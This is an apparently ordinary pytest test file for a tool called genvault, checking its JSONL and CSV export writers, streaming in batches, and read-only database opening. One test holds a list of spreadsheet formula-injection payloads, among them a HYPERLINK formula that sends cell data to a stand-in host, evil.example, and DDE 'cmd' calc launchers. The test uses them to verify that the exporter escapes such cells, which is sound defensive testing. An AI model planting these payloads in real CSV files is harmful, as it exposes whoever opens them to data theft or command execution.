"""``genvault export``'s writers on SQLite and PostgreSQL: content, CSV, streaming.

Generations and files are written through the store (sync upserts, lease and
finish), the export is read back with ``json`` and the ``csv`` module and compared
with the rows; the streaming test watches the SQL the export sends (an engine
event, observing, not faking) to show it fetches one batch at a time and hands
out records before the later batches are read.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from genvault.config import StorageSettings
from genvault.errors import ConfigError
from genvault.ops.export import CSV_COLUMNS, export_records, write_export
from genvault.ops.readonly import open_existing_store
from genvault.records import AssetState, DeadlineSource, GenerationStatus, MediaRole
from genvault.storage import Storage, open_storage
from genvault.store import MIGRATIONS, Outcome, Store
from tests.integration.store_helpers import media, now_utc, record, save, url

TRICKY_PROMPT = 'a "quoted", comma-laden prompt\nover two lines, with ünïcödé ✓'


@pytest.fixture
def storage(tmp_path: Path) -> Storage:
    return open_storage(StorageSettings(url=f"file://{tmp_path / 'archive'}"))


def _fill(store: Store) -> None:
    """Two accounts; files archived, pending and failed; a failed generation with no files."""
    base = datetime(2026, 10, 1, tzinfo=UTC)
    save(
        store,
        [
            record(
                f"m{i}",
                created_at=base + timedelta(days=i),
                prompt=TRICKY_PROMPT if i == 0 else f"prompt {i}",
                media_=[
                    media(url(f"m{i}.png"), size=1000 + i),
                    media(url(f"m{i}-thumb.png"), MediaRole.THUMBNAIL),
                ],
            )
            for i in range(6)
        ],
    )
    save(
        store,
        [record("broken", GenerationStatus.FAILED, error="SAFETY_FILTER_BLOCKED", created_at=base)],
    )
    save(
        store,
        [record("o1", created_at=base, media_=[media(url("o1.png"))])],
        account="other",
    )
    leased = store.leases.acquire("t", limit=3, lease_seconds=60, accounts=["main"])
    outcomes = [
        Outcome(
            a.id,
            AssetState.ARCHIVED,
            size=10 + a.id,
            sha256=f"{a.id:064x}",
            storage_key=f"main/{a.external_id}/{a.position:02d}-{a.role}.png",
            content_type="image/png",
        )
        for a in leased[:2]
    ]
    outcomes.append(Outcome(leased[2].id, AssetState.FAILED, error="not media"))
    store.leases.finish("t", outcomes)


def _check_against_db(
    store: Store, storage: Storage, records: list[dict[str, Any]], account: str | None = None
) -> None:
    gens = store.generations(account)
    assets = store.assets(account)
    assert [r["external_id"] for r in records] == [g["external_id"] for g in gens]
    assert sum(len(r["files"]) for r in records) == len(assets)
    by_gen = {(g["account"], g["external_id"]): g for g in gens}
    files = {(a["account"], a["external_id"], a["position"]): a for a in assets}
    for r in records:
        g = by_gen[(r["account"], r["external_id"])]
        for name in ("provider", "status", "model", "prompt", "error", "kind"):
            assert r[name] == g[name], name
        assert r["created_at"] == g["created_at"].isoformat()
        for f in r["files"]:
            a = files[(r["account"], r["external_id"], f["position"])]
            assert (f["role"], f["state"], f["sha256"]) == (a["role"], a["state"], a["sha256"])
            assert f["size"] == (a["size"] if a["size"] is not None else a["expected_size"])
            assert f["source_deadline"] == a["expires_at"].isoformat()
            assert f["source_deadline_from"] == a["expires_source"]
            assert f["source_deadline_from"] in {s.value for s in DeadlineSource}
            if a["storage_key"]:
                assert f["key"] == a["storage_key"]
                assert f["location"] == storage.location(a["storage_key"])
                assert f["location"].startswith("file:///")
            else:
                assert f["key"] is None and f["location"] is None


def test_jsonl_has_one_record_per_generation_matching_the_database(
    store: Store, storage: Storage
) -> None:
    _fill(store)
    out = io.StringIO()
    counts = write_export(store, storage.location, out, fmt="jsonl", batch_size=3)
    lines = out.getvalue().splitlines()
    records = [json.loads(line) for line in lines]
    assert counts.generations == len(records) == 8
    _check_against_db(store, storage, records)
    states = {f["state"] for r in records for f in r["files"]}
    assert states == {"archived", "pending", "failed"}
    assert next(r for r in records if r["external_id"] == "broken")["files"] == []
    assert "raw" not in records[0]

    only = io.StringIO()
    write_export(store, storage.location, only, account="other", include_raw=True)
    other = [json.loads(line) for line in only.getvalue().splitlines()]
    _check_against_db(store, storage, other, account="other")
    assert other[0]["raw"]["uuid"] == "o1"


def test_csv_parses_with_the_csv_module_one_row_per_generation(
    store: Store, storage: Storage
) -> None:
    _fill(store)
    out = io.StringIO(newline="")
    counts = write_export(store, storage.location, out, fmt="csv", batch_size=2)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert counts.generations == len(rows) == 8
    assert rows[0]["prompt"] == TRICKY_PROMPT  # quotes, commas and a newline survive
    records = []
    for row in rows:
        files = json.loads(row["files"])
        assert int(row["file_count"]) == len(files)
        assert int(row["archived_files"]) == sum(f["state"] == "archived" for f in files)
        records.append({**row, "files": files, "error": row["error"] or None})
    _check_against_db(store, storage, records)


FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_a_spreadsheet_would_run_are_escaped(store: Store, storage: Storage) -> None:
    """Issue item 14: prompts, errors and model names are third-party text; a cell that
    starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or CR before one) is a formula to
    Excel and LibreOffice. The CSV prefixes such cells with ``'``; JSONL keeps them as is."""
    base = datetime(2026, 10, 1, tzinfo=UTC)
    save(
        store,
        [
            record(f"f{i}", created_at=base + timedelta(minutes=i), prompt=text, error=text)
            for i, text in enumerate(FORMULAS)
        ]
        + [record("plain", created_at=base + timedelta(hours=1), prompt="a -=+@ b")],
    )
    out = io.StringIO(newline="")
    write_export(store, storage.location, out, fmt="csv")
    rows = {r["external_id"]: r for r in csv.DictReader(io.StringIO(out.getvalue(), newline=""))}
    for i, text in enumerate(FORMULAS):
        assert rows[f"f{i}"]["prompt"] == "'" + text
        assert rows[f"f{i}"]["error"] == "'" + text
    assert rows["plain"]["prompt"] == "a -=+@ b", "only a leading character counts"
    for row in rows.values():
        for column, cell in row.items():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, cell)

    lines = io.StringIO()
    write_export(store, storage.location, lines, fmt="jsonl")
    prompts = {
        r["external_id"]: r["prompt"] for r in map(json.loads, lines.getvalue().splitlines())
    }
    assert [prompts[f"f{i}"] for i in range(len(FORMULAS))] == FORMULAS


def test_since_bounds_by_creation_date(store: Store, storage: Storage) -> None:
    _fill(store)
    since = datetime(2026, 10, 4, tzinfo=UTC)
    got = list(export_records(store, storage.location, since=since))
    assert [r["external_id"] for r in got] == ["m3", "m4", "m5"]


def test_export_streams_batch_by_batch(tmp_path: Path, storage: Storage) -> None:
    """5,000 generations: records come out after one batch was read, and no query
    ever asks for more than a batch."""
    store = Store(f"sqlite:///{tmp_path / 'big.db'}")
    store.upgrade()
    try:
        now = now_utc()
        for start in range(0, 5000, 1000):
            save(
                store,
                [
                    record(f"g{i:05d}", created_at=now, media_=[media(url(f"g{i}.png"))])
                    for i in range(start, start + 1000)
                ],
            )
        statements: list[str] = []

        def seen(_conn: Any, _cursor: Any, statement: str, *_rest: Any) -> None:
            if statement.lstrip().upper().startswith("SELECT"):
                statements.append(" ".join(statement.split()))

        sa.event.listen(store.engine, "before_cursor_execute", seen)

        def generation_selects() -> list[str]:
            return [s for s in statements if s.split(" FROM ", 1)[1].startswith("generation")]

        records = export_records(store, storage.location, batch_size=250)
        first = next(records)
        assert first["external_id"] == "g00000"
        assert len(generation_selects()) == 1, "the first record waited for more than a batch"
        rest = sum(1 for _ in records)
        assert rest == 4999
        selects = generation_selects()
        assert len(selects) == 5000 // 250 + 1  # the last one finds nothing more
        assert all(" LIMIT " in s for s in selects)
        assert all("generation.id >" in s for s in selects)  # keyset, not OFFSET
        sa.event.remove(store.engine, "before_cursor_execute", seen)
    finally:
        store.dispose()


def test_read_only_commands_open_only_an_existing_database_at_the_latest_schema(
    tmp_path: Path,
) -> None:
    """``export``, ``verify`` and the dry run never create or migrate the database."""
    missing = tmp_path / "none.db"
    with pytest.raises(ConfigError, match=r"database\.url: no genvault database"):
        open_existing_store(f"sqlite:///{missing}")
    assert not missing.exists()

    db = f"sqlite:///{tmp_path / 'old.db'}"
    old = Store(db)
    try:
        from alembic import command
        from alembic.config import Config

        cfg = Config()
        cfg.set_main_option("script_location", str(MIGRATIONS))
        with old.tx() as conn:
            cfg.attributes["connection"] = conn
            command.upgrade(cfg, "0001")
        with pytest.raises(ConfigError, match=r"at revision 0001.*genvault db upgrade"):
            open_existing_store(db)
        assert old.schema_revision() == "0001"  # not migrated behind the operator's back
        old.upgrade()
    finally:
        old.dispose()
    store = open_existing_store(db)
    store.dispose()
